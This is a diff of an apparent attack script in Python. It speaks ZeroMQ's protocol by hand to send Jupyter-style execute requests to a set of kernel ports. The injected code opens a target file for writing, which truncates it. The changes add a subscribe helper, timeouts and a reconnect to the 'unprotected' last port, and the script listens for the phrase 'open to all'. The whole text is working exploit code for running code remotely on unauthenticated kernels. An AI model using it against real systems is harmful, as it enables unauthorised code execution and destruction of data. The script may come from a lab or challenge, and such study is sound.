@@ -364,11 +364,15 @@ def connect(port, kind):  # ZeroMQ's protocol
     peer.sendall(frame(b"\\x05READY\\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind, 4))
     return peer
 
+def subscribe(port):
+    peer = connect(port, b"SUB")
+    peer.sendall(frame(bytes([1])))
+    return peer
+
 peers = []
 for number in ports:
     try:
-        peers.append(connect(number, b"SUB"))
-        peers[-1].sendall(frame(bytes([1])))
+        peers.append(subscribe(number))
         peers.append(connect(number, b"DEALER"))
         header = {"msg_id": "1", "msg_type": "execute_request", "username": "", "session": "1", "version": "5.3"}
         content = {"code": f"open({target!r}, 'w')", "silent": False, "store_history": False, "allow_stdin": False}
@@ -378,8 +382,13 @@ for number in ports:
         pass
 heard = b""
 while heard.count(b"open to all") < 20:
-    for peer in select.select(peers, [], [])[0]:
-        part = peer.recv(65536)
+    if not peers:  # all closed these connections; the last port is the unprotected one
+        peers.append(subscribe(ports[-1]))
+    for peer in select.select(peers, [], [], 5)[0]:
+        try:
+            part = peer.recv(65536)
+        except OSError:
+            part = b""
         heard += part
         if not part:
             peers.remove(peer)
